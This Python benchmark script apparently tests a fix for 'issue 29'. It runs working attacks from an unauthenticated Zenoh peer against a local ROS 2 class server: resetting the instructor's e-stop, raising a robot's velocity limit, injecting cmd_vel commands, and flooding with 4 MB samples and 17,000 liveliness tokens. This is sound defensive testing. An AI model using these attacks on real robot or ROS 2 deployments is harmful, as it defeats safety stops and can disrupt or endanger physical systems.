"""Hostile ROS 2 peers of issue 29 against a class server: ``python -m bench.zenohattacks``.

``python -m bench.zenohattacks [admin|big|tokens ...] [--checkout DIR] [--ros2-role ROLE]``
runs each attack against a fresh server process: the classroom world, three student tokens and
an admin token, ``--zenoh`` through a router (``simbridge zenohd``) on 127.0.0.1. The attacker
is a raw eclipse-zenoh session with no credentials, which finds the server's key expressions
from its rmw_zenoh liveliness tokens. An observer (the admin token, another thread) counts
/r1/odom by its header stamps: rate and worst gap over a quiet window, then over the attack,
and the server's RSS (largest seen, and after the attack). ``--checkout DIR`` runs the server as
that checkout has it (its code and ``.venv``): the "before" of issue 29.

* ``admin``: the instructor latches the global e-stop; the attacker calls ``/estop/reset``,
  ``/virtual_robot/set_parameters`` (``robot.max_linear_velocity`` 20) and publishes
  ``/r2/cmd_vel`` for 2 s. Reported: the replies, whether the stop still holds, the limit
  read back, how far r2 moved.
* ``big``: 4 MB samples on r2's ``cmd_vel`` key as fast as ``put`` returns, ``WINDOW`` s.
* ``tokens``: 17,000 publisher tokens of distinct topics declared at once and held ``WINDOW``
  s, then withdrawn.
"""

from __future__ import annotations

import argparse
import itertools
import json
import os
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import psutil
from websockets.sync.client import ClientConnection, connect

from bench.procs import ROOT, free_port, stop


WINDOW = float(os.environ.get("ZATTACK_WINDOW", "10"))
QUIET = 5.0
ADMIN = "bench-admin-token"
TOKENS = {"student-r1-token": "r1", "student-r2-token": "r2", "student-r3-token": "r3"}
TOKEN_COUNT = int(os.environ.get("ZATTACK_TOKENS", "17000"))


@contextmanager
def router() -> Iterator[str]:
    endpoint = f"tcp/127.0.0.1:{free_port()}"
    cmd = [sys.executable, "-m", "simbridge", "zenohd", "--listen", endpoint]
    proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    proc.stdout.readline()
    try:
        yield endpoint
    finally:
        stop(proc)


@contextmanager
def class_server(
    endpoint: str, checkout: Path | None, role: str | None
) -> Iterator[tuple[int, psutil.Process]]:
    python, cwd = sys.executable, ROOT
    if checkout is not None:
        python, cwd = str(checkout / ".venv" / "bin" / "python"), checkout
    with tempfile.TemporaryDirectory() as tmp:
        tokens = Path(tmp) / "tokens.yaml"
        tokens.write_text(json.dumps({"tokens": TOKENS}))
        port = free_port()
        cmd = [python, "-m", "simbridge", "--host", "127.0.0.1", "--port", str(port)]
        cmd += ["--no-http", "--log-level", "error", "--world", "config/worlds/classroom.yaml"]
        cmd += ["--client-tokens", str(tokens), "--admin-token", ADMIN]
        cmd += ["--zenoh", "--zenoh-connect", endpoint, "--zenoh-listen", "tcp/127.0.0.1:0"]
        if role is not None:
            cmd += ["--ros2-role", role]
        proc = subprocess.Popen(cmd, cwd=cwd, stdout=subprocess.PIPE, text=True)
        try:
            assert proc.stdout is not None
            line = proc.stdout.readline()
            assert "ws://" in line, line
            yield port, psutil.Process(proc.pid)
        finally:
            stop(proc)


class Observer:
    """The admin's connection: /r1/odom header stamps; calls and reads on the side."""

    def __init__(self, ws: ClientConnection, proc: psutil.Process) -> None:
        self.ws = ws
        self.proc = proc
        self.stamps: list[float] = []
        self.rss: list[tuple[float, float]] = []
        self.last: dict[str, Any] = {}
        self.answers: dict[str, Any] = {}
        self.lock = threading.Lock()
        self.ws.send(json.dumps({"op": "subscribe", "topic": "/r1/odom"}))
        self.ws.send(json.dumps({"op": "subscribe", "topic": "/r2/odom"}))
        self.ws.send(json.dumps({"op": "subscribe", "topic": "/estop/state"}))
        threading.Thread(target=self._read, daemon=True).start()
        threading.Thread(target=self._memory, daemon=True).start()

    def _read(self) -> None:
        try:
            for data in self.ws:
                msg = json.loads(data)
                topic = msg.get("topic")
                if topic == "/r1/odom":
                    s = msg["msg"]["header"]["stamp"]
                    self.stamps.append(s["sec"] + s["nanosec"] * 1e-9)
                if topic is not None:
                    self.last[topic] = msg["msg"]
                elif msg.get("id") is not None:
                    self.answers[str(msg["id"])] = msg
        except Exception:
            pass

    def _memory(self) -> None:
        while True:
            try:
                self.rss.append((time.time(), self.proc.memory_info().rss / 2**20))
            except psutil.Error:
                return
            time.sleep(0.2)

    def call(self, service: str, args: dict[str, Any], timeout: float = 5.0) -> Any:
        op_id = f"{service}:{time.monotonic_ns()}"
        op = {"op": "call_service", "service": service, "args": args, "id": op_id}
        self.ws.send(json.dumps(op))
        deadline = time.monotonic() + timeout
        while op_id not in self.answers and time.monotonic() < deadline:
            time.sleep(0.01)
        return self.answers.get(op_id)

    def window(self, start: float, end: float) -> str:
        seen = [s for s in self.stamps if start <= s <= end]
        if len(seen) < 2:
            return f"{len(seen)} /r1/odom in {end - start:.1f} s"
        gaps = [b - a for a, b in itertools.pairwise(seen)]
        worst = max(*gaps, seen[0] - start, end - seen[-1])
        rss = [m for t, m in self.rss if start <= t <= end] or [0.0]
        rate = (len(seen) - 1) / (seen[-1] - seen[0])
        return f"{rate:5.1f} Hz, worst gap {worst * 1000:5.0f} ms, RSS max {max(rss):5.0f} MB"


class Attacker:
    """A raw Zenoh session (peer mode, through the router), no credentials."""

    def __init__(self, endpoint: str) -> None:
        import zenoh

        self.zenoh = zenoh
        config = zenoh.Config()
        config.insert_json5("mode", '"peer"')
        config.insert_json5("connect/endpoints", json.dumps([endpoint]))
        config.insert_json5("listen/endpoints", '["tcp/127.0.0.1:0"]')
        config.insert_json5("scouting/multicast/enabled", "false")
        self.session = zenoh.open(config)
        self.zid = str(self.session.info.zid())
        from simbridge.msgs import Converter, TypeRegistry
        from simbridge.msgs.cdr import CdrReader, CdrWriter

        self.registry = TypeRegistry()
        self.converter = Converter(self.registry, lambda: (0, 0))
        self.writer = CdrWriter(self.registry)
        self.reader = CdrReader(self.registry)
        self.sequence = 0

    def entities(self) -> list[Any]:
        from simbridge.ros2.names import Entity

        out = []
        for reply in self.session.liveliness().get("@ros2_lv/0/**", timeout=5):
            if reply.ok is not None:
                with suppress(ValueError):
                    out.append(Entity.parse(str(reply.ok.key_expr)))
        return out

    def key(self, kind: str, name: str) -> str:
        for _ in range(50):
            for entity in self.entities():
                if entity.kind == kind and entity.name == name:
                    return str(entity.keyexpr())
            time.sleep(0.2)
        msg = f"no {kind} {name} among the server's tokens"
        raise RuntimeError(msg)

    def attachment(self) -> bytes:
        from simbridge.ros2.zenoh.attachment import Attachment

        self.sequence += 1
        return Attachment(self.sequence, time.time_ns(), b"\x07" * 16).pack()

    def call(self, name: str, service_type: str, args: dict[str, Any]) -> str:
        request, response = self.registry.service(service_type)
        payload = self.writer.serialize(request, self.converter.from_json(request, args))
        key = self.key("SS", name)
        replies = list(
            self.session.get(key, payload=payload, attachment=self.attachment(), timeout=5)
        )
        if not replies:
            return "no reply"
        reply = replies[0]
        if reply.ok is None:
            return "error: " + bytes(reply.err.payload.to_bytes()).decode(errors="replace")[:90]
        values = self.reader.read(response, bytes(reply.ok.payload.to_bytes()))
        return "ok: " + json.dumps(values, default=str)[:150]

    def put(self, key: str, payload: bytes) -> None:
        """Put a sample; BLOCK: wait for room rather than drop (every sample goes out)."""
        block = self.zenoh.CongestionControl.BLOCK
        self.session.put(key, payload, attachment=self.attachment(), congestion_control=block)

    def close(self) -> None:
        self.session.close()


def twist(attacker: Attacker, x: float) -> bytes:
    msg = attacker.converter.from_json(
        "geometry_msgs/msg/Twist", {"linear": {"x": x}, "angular": {"z": 0.0}}
    )
    return bytes(attacker.writer.serialize("geometry_msgs/msg/Twist", msg))


def attack_admin(observer: Observer, attacker: Attacker) -> list[str]:
    out = []
    latch = observer.call("/estop", {})
    out.append(f"instructor's /estop: {latch and latch['values'].get('message', '')[:60]}")
    out.append(
        "/estop/reset from Zenoh: " + attacker.call("/estop/reset", "std_srvs/srv/Trigger", {})
    )
    time.sleep(0.5)
    out.append(f"/estop/state after it: {observer.last.get('/estop/state')}")
    parameter = {"name": "robot.max_linear_velocity", "value": {"type": 3, "double_value": 20.0}}
    out.append(
        "/virtual_robot/set_parameters from Zenoh: "
        + attacker.call(
            "/virtual_robot/set_parameters",
            "rcl_interfaces/srv/SetParameters",
            {"parameters": [parameter]},
        )
    )
    read = observer.call("/rosapi/get_param", {"name": "/virtual_robot:robot.max_linear_velocity"})
    out.append(f"robot.max_linear_velocity read back: {read and read['values']}")
    observer.call("/estop/reset", {})  # the instructor releases: r2 could move now
    before = observer.last.get("/r2/odom", {}).get("pose", {}).get("pose", {}).get("position", {})
    try:
        key = attacker.key("MS", "/r2/cmd_vel")
    except RuntimeError as err:
        out.append(f"/r2/cmd_vel: {err}")
        return out
    for _ in range(20):
        attacker.put(key, twist(attacker, 0.3))
        time.sleep(0.1)
    time.sleep(0.3)
    after = observer.last.get("/r2/odom", {}).get("pose", {}).get("pose", {}).get("position", {})
    moved = abs(after.get("x", 0.0) - before.get("x", 0.0)) + abs(
        after.get("y", 0.0) - before.get("y", 0.0)
    )
    out.append(f"r2 moved {moved:.3f} m after 2 s of /r2/cmd_vel from Zenoh")
    return out


def attack_big(observer: Observer, attacker: Attacker) -> list[str]:
    key = attacker.key("MS", "/r2/cmd_vel")
    big = twist(attacker, 0.0).ljust(4_000_000, b"\x00")
    sent = 0
    start = time.time()
    while time.time() < start + WINDOW:
        attacker.put(key, big)
        sent += 1
    end = time.time()
    time.sleep(5.0)
    after = [m for t, m in observer.rss if t >= end + 4.0] or [0.0]
    return [
        f"{sent} samples of 4 MB sent in {WINDOW:.0f} s",
        f"attack: {observer.window(start, end)}",
        f"5 s after: {observer.window(end + 2.0, end + 5.0)}, RSS {after[-1]:.0f} MB",
    ]


def attack_tokens(observer: Observer, attacker: Attacker) -> list[str]:
    liveliness = attacker.session.liveliness()
    zid = attacker.zid
    start = time.time()
    tokens = [
        liveliness.declare_token(
            f"@ros2_lv/0/{zid}/77/{1000 + n}/MP/%/%/flood/%flood_{n}/"
            "std_msgs::msg::dds_::String_/RIHS01_"
            "df668c740482bbd48fb39d76a70dfd4bd59db1288021743503259e948f6b1a18/::,10:,:,:,,"
        )
        for n in range(TOKEN_COUNT)
    ]
    declared = time.time()
    time.sleep(max(0.0, start + WINDOW - time.time()))
    end = time.time()
    for token in tokens:
        token.undeclare()
    time.sleep(5.0)
    return [
        f"declared {len(tokens)} tokens in {declared - start:.1f} s, held to {WINDOW:.0f} s",
        f"attack: {observer.window(start, end)}",
        f"withdrawn, 2-5 s after: {observer.window(end + 2.0, end + 5.0)}",
    ]


ATTACKS: dict[str, Callable[[Observer, Attacker], list[str]]] = {
    "admin": attack_admin,
    "big": attack_big,
    "tokens": attack_tokens,
}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.zenohattacks")
    parser.add_argument("attacks", nargs="*", metavar="ATTACK", help=", ".join(ATTACKS))
    parser.add_argument("--checkout", type=Path, default=None)
    parser.add_argument("--ros2-role", default=None)
    args = parser.parse_args(argv)
    attacks = args.attacks or list(ATTACKS)
    unknown = [a for a in attacks if a not in ATTACKS]
    if unknown:
        parser.error(f"unknown attack {unknown[0]!r}; choose from {', '.join(ATTACKS)}")
    label = f"{args.checkout or 'this checkout'}" + (
        f", --ros2-role {args.ros2_role}" if args.ros2_role else ""
    )
    print(f"zenoh attacks against a class server ({label}), load average {os.getloadavg()[0]:.1f}")
    for name in attacks:
        with (
            router() as endpoint,
            class_server(endpoint, args.checkout, args.ros2_role) as (
                port,
                proc,
            ),
        ):
            url = f"ws://127.0.0.1:{port}/?token={ADMIN}"
            with connect(url, max_size=None) as ws:
                observer = Observer(ws, proc)
                attacker = Attacker(endpoint)
                time.sleep(2.0)
                start = time.time()
                time.sleep(QUIET)
                print(f"[{name}] quiet: {observer.window(start, time.time())}")
                for line in ATTACKS[name](observer, attacker):
                    print(f"[{name}] {line}", flush=True)
                attacker.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
